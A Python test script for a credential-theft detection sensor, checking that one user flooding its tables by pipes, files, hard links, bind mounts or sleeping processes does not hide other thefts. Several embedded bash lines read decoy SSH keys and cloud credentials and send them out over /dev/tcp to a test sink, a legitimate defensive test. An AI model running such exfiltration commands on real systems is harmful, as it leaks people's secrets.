#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""State on a large, hostile machine: a user who fills a table costs only that user, and entries of objects that do
not exist any more are released.

usage: test-state.py [--long]     --long: the numbers of a large machine; otherwise a tenth of them"""

import os
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
import tap
from cases import cases
from crowd import CROWD_PART, Crowd, CrowdedScene, table
from net import HOST_V4
from tap import require, require_equal

LONG = "--long" in sys.argv
SCALE = 1 if LONG else 10
PIPES, FILES, SOCKETS = 100_000 // SCALE, 100_000 // SCALE, 50_000 // SCALE
SLEEPERS = 30_000
# By one user, of a tenth as many files: ten times each.
OPENS = 500_000
# Of files that are removed together, some inodes are reused before a sweep sees them: these entries stay until their
# windows are over, or room is needed.
FILES_UNSEEN = FILES // 20
CROWD_UID, OTHER_UID, OPENER_UID = 65001, 65002, 65003
CROWD_TIMEOUT = 120 * tap.SLOW


# Copies of bash that may read keys, and where they may send them. None of them reads any.
TWINS = {"allowed": (), "allowed-there": (f"{HOST_V4}:443",), "allowed-elsewhere": ("192.0.2.99:443",)}


class Filled(CrowdedScene):
    def __init__(self, net, home):
        # On a disk, where the numbers of inodes are used again.
        super().__init__(net, home, parent="/var/tmp")
        os.chmod(self.directory, 0o1777)
        shutil.copy("/usr/bin/perl", self.twin("allowed-here"))
        for name in TWINS:
            shutil.copy("/bin/bash", self.twin(name))
        self.write_policy("".join(harness.policy_allow(name, self.twin(name), ["ssh-private-keys"], destinations)
                                  for name, destinations in TWINS.items())
                          + harness.policy_allow("allowed-here", self.twin("allowed-here"),
                                                 ["ssh-private-keys", "cloud-aws", "app-secrets"],
                                                 ["0.0.0.0/32"]))

    def twin(self, name):
        """A copy of bash that may read keys."""
        return f"{self.directory}/{name}"

    def connect(self, shell, user):
        """A process that has read nothing connects to the sink."""
        result = self.net.run([shell, "-c", "exec 3<>/dev/tcp/$1/443", "bash", HOST_V4], user=user, group=user,
                              extra_groups=[])
        require_equal(result.returncode, 0, f"{shell}: {result.stderr}")


# An echo request, by a raw socket.
PING = 'socket(S, 2, 3, 1) && send(S, pack("C8", 8), 0, pack("Sna4x8", 2, 0, pack("C4", split(/[.]/, shift)))) ' \
    'or die $!'


def ended(scene, kind, n):
    """Entries of objects that do not exist any more are released, and thefts are alerted meanwhile."""
    before, _ = table(scene.socket, "objects")
    losses = scene.losses()
    key, _ = scene.key()
    work = tempfile.mkdtemp(dir=scene.directory)
    with Crowd(scene.net, key, kind, n, work):
        scene.steal(f"after {n} {kind}")
        scene.wait_released("objects", before, FILES_UNSEEN if kind == "many-files" else 0)
        scene.steal(f"later, after {n} {kind}")
    require_equal(scene.losses(), losses, "losses")


def suspect_alerts(scene, user):
    return scene.bw.find(lambda a: a["suspect"] and a["process"]["uid"] == user)


def permitted(scene):
    """Programs of a suspected user that a rule permits to send such files there are silent."""
    for name in ("allowed", "allowed-there"):
        scene.connect(scene.twin(name), CROWD_UID)
    scene.bw.prove_delivered(scene.net, scene.home)
    require_equal(suspect_alerts(scene, CROWD_UID), [], "permitted programs of a suspected user")


def unknown(scene):
    """The tracepoint sensor does not see the address of a raw packet: it is not that of this host."""
    secrets, _ = scene.home.decoy(os.path.join(scene.home.path, b"app/.env"))
    os.chown(secrets, CROWD_UID, CROWD_UID)
    scene.net.run(["cat", secrets], user=CROWD_UID, group=CROWD_UID, extra_groups=[])
    pinger = scene.twin("allowed-here")
    result = scene.net.run(["setpriv", f"--reuid={CROWD_UID}", f"--regid={CROWD_UID}", "--clear-groups",
                            "--inh-caps=+net_raw", "--ambient-caps=+net_raw", pinger, "-e", PING, HOST_V4])
    require_equal(result.returncode, 0, f"{pinger}: {result.stderr}")
    scene.bw.wait_alert(lambda a: a["suspect"] and a["process"]["exe"] == pinger and len(a["classes"]) == 3,
                        "a raw packet of a program whose rule has the address of this host")


def suspected(scene):
    """The others are alerted, once a minute for each set of classes, and nobody else is."""
    scene.connect("/bin/bash", CROWD_UID)
    scene.connect("/bin/bash", OTHER_UID)
    scene.bw.prove_delivered(scene.net, scene.home)
    require_equal(len(suspect_alerts(scene, CROWD_UID)), 1, "alerts of a suspected user within a minute")
    credentials, _ = scene.home.decoy(os.path.join(scene.home.path, b".aws/credentials"))
    os.chown(credentials, CROWD_UID, CROWD_UID)
    scene.net.run(["cat", credentials], user=CROWD_UID, group=CROWD_UID, extra_groups=[])
    scene.connect(scene.twin("allowed-elsewhere"), CROWD_UID)
    scene.bw.wait_alert(lambda a: a["suspect"] and a["process"]["exe"] == scene.twin("allowed-elsewhere") and
                        len(a["classes"]) == 2, "a program whose rule has another destination")
    unknown(scene)
    require_equal(suspect_alerts(scene, OTHER_UID), [], "another user's")


def crowded(scene):
    """One user's marked processes: another user's theft is seen, and so is their own."""
    losses = scene.losses()
    key, _ = scene.key(CROWD_UID)
    user = {"user": CROWD_UID, "group": CROWD_UID, "extra_groups": []}
    n = SLEEPERS if LONG else table(scene.socket, "processes")[1] // CROWD_PART + 100
    with Crowd(scene.net, key, "sleepers", n, **user):
        scene.steal("another user's theft", OTHER_UID, 1 * tap.SLOW)
        permitted(scene)
        scene.steal("the theft of the same user", CROWD_UID, named=False)
        suspected(scene)
        shares = [s for s in scene.bw.states if s["state"] == "share"]
        require(any(s["uid"] == CROWD_UID for s in shares), f"no alert names the flooder: {shares}")
    require_equal(scene.losses(), losses, "losses")


# Moved into a namespace with many mounts: the host's own mount is neither the first nor the last of its file system's.
MANY_MOUNTS = """
for i in $(seq 80); do mkdir "$2/m$i" && mount --bind /etc "$2/m$i" || exit 1; done
mkdir "$2/bound" && mount --bind "$(dirname "$1")" "$2/bound" || exit 1
exec 3<>/dev/tcp/$3/443
exec cat "$2/bound/$(basename "$1")" >&3
"""
LINKS = 40


def bound(scene):
    """A key by way of a bind mount, below 80 others of a namespace."""
    key, content = scene.key()
    work = tempfile.mkdtemp(dir=scene.directory)
    result = scene.net.run(["unshare", "--mount", "/bin/bash", "-c", MANY_MOUNTS, "bash", key, work, HOST_V4])
    require_equal(result.returncode, 0, result.stderr)
    scene.net.sink.wait_arrived(content)
    scene.bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and
                        any(str(f["path"]).endswith(f"/bound/{os.path.basename(key).decode()}") for f in a["files"]),
                        "the key in the bind mount")


def linked(scene):
    """A key by the latest of 40 hard links."""
    key, content = scene.key()
    work = tempfile.mkdtemp(dir=os.path.dirname(scene.home.root.decode()))
    for n in range(LINKS):
        os.link(key, f"{work}/link{n}")
    script = 'exec 3<>/dev/tcp/$2/443; exec cat "$1" >&3'
    result = scene.net.run(["/bin/bash", "-c", script, "bash", f"{work}/link{LINKS - 1}", HOST_V4])
    subprocess.run(["rm", "-r", work], check=True)
    require_equal(result.returncode, 0, result.stderr)
    scene.net.sink.wait_arrived(content)
    scene.bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and
                        any(f["path"] == f"{work}/link{LINKS - 1}" for f in a["files"]), "the key by a link")


def opened(scene):
    """One user's opens of sensitive files: another user's theft is seen at once."""
    losses = scene.losses()
    top, n = tempfile.mkdtemp(dir=scene.directory), OPENS // 10
    os.chmod(top, 0o755)
    for i in range(n):
        os.mkdir(f"{top}/{i}")
        with open(f"{top}/{i}/.env", "w", encoding="ascii") as out:
            out.write(f"TOKEN={i}\n")
    for turn in range(10):
        with Crowd(scene.net, f"{top}/0/.env", "opens", n, top, user=OPENER_UID, group=OPENER_UID, extra_groups=[]):
            if turn in (0, 9):
                scene.steal(f"another user's theft after {(turn + 1) * n} opens", OTHER_UID, 1 * tap.SLOW)
    shutil.rmtree(top)
    require_equal(scene.losses(), losses, "losses")


def main():
    with cases() as (t, net, home):
        scene = Filled(net, home)
        with scene.bw:
            t.case(f"{PIPES} closed pipes", ended, scene, "pipes", PIPES)
            t.case(f"{SOCKETS} closed unix sockets", ended, scene, "sockets", SOCKETS)
            t.case(f"{FILES} files, each removed before the next", ended, scene, "files", FILES)
            t.case(f"{FILES} files, removed together", ended, scene, "many-files", FILES)
            t.case("a bind mount below 80 others", bound, scene)
            t.case(f"{LINKS} hard links", linked, scene)
            t.case("sleeping marked processes fill the share of one user", crowded, scene)
            if LONG:
                t.case(f"{OPENS} opens by one user", opened, scene)
            scene.bw.stop()


if __name__ == "__main__":
    main()
